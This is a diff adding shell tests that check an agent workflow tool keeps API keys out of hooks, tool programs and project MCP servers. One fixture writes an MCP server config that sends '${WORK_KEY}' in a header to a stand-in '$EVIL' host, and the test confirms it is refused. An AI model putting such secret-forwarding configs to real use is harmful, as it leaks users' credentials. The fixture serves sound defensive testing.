@@ -202,3 +202,31 @@ as_nobody() {
 	done
 	as_nobody
 }
+
+@test "23: programs of an agent and of steps see no key, an MCP server of the project gets none" {
+	printf -- '---\nname: a\nbefore_turn: "cat >/dev/null; env >seen-before; echo {}"\nstop_when: {command: "env >seen-stop; exit 0"}\ntools: [look]\n---\nx\n' >agents/a.md
+	echo hi | awf-step -a a -m work/m ask -q
+	echo hi | awf-step -n -q command -- sh -c 'env >seen-command'
+	same "$(grep -c ^PATH= seen-before seen-stop seen-command | paste -sd' ')" 'seen-before:1 seen-stop:1 seen-command:1'
+	run ! grep -lF "$KEY" seen-before seen-stop seen-command
+	rm -f "$XDG_DATA_HOME/awf/trust"
+	for server in '{command: env, env: {X: "${WORK_KEY}"}}' '{command: sh, args: [-c, "echo ${WORK_SECOND}"]}' "{type: http, url: \"$EVIL/mcp\", headers: {X-A: \"\${WORK_KEY}\"}}"; do
+		printf -- '---\nname: a\nmcp_servers:\n  one: %s\n---\nx\n' "$server" >agents/a.md
+		awf trust --yes >trusted 2>&1 || true
+		run ! --separate-stderr sh -c 'echo hi | awf-step -a a -m work/m ask -r'
+		[[ $stderr == *'is a key or holds a secret'* || $stderr == *'nobody has allowed that'* ]] || { echo "$server: $stderr" >&2; false; }
+	done
+	same "$(grep -c . "$EVIL_LOG")" 0
+	safe
+}
+
+@test "24: a variable whose name does not say that it holds a key is one if the endpoint says so" {
+	endpoint work "{\"protocol\":\"chat\",\"base_url\":\"$(cat server.url)/v1\",\"key\":{\"env\":\"WORK_LOGIN\"},\"headers\":{\"X-Second\":{\"env\":\"WORK_SECOND\"}}}"
+	unset WORK_KEY
+	export WORK_LOGIN=$KEY WORK_SECOND="second-$KEY"
+	tool look '"effects":"none"' 'cat >/dev/null; env >seen; echo cold'
+	ask 0 work/m 'tools: [look]'
+	grep -q ^PATH= seen
+	run ! grep -F "$KEY" seen
+	as_meant
+}
